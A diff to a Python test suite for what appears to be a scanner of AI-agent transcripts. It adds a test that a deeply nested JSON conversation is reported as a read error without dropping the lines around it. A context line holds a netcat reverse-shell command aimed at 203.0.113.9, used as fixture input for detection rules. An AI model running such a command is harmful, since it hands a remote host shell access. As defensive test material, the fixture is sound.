@@ -147,3 +147,14 @@ def test_a_lone_surrogate_in_tool_call_arguments_loses_nothing(tmp_path):
     assert events[0].input == "echo a\\ud800b; nc -e /bin/sh 203.0.113.9 4444"  # written as text
     rules = {f.rule for f in scan([path], load()).findings}
     assert {"reverse_shell_netcat_exec", "ssh_reverse_tunnel"} <= rules
+
+
+def test_a_conversation_nested_past_the_decoder_loses_only_itself(tmp_path):
+    path = tmp_path / "chat.jsonl"
+    lines = (DATA / "openai_chat.jsonl").read_text().splitlines()
+    lines.insert(1, '{"messages": ' + "[" * 100_000 + "]" * 100_000 + "}")
+    path.write_text("\n".join(lines) + "\n")
+    items = list(read_file(path))
+    assert [a.episode for a in items if isinstance(a, Action)] == ["conv-a", "conv-c", "conv-c"]
+    errors = [(e.line, e.message) for e in items if isinstance(e, ReadError)]
+    assert errors[0] == (2, "not read: JSON nested too deeply") and [e[0] for e in errors] == [2, 3]
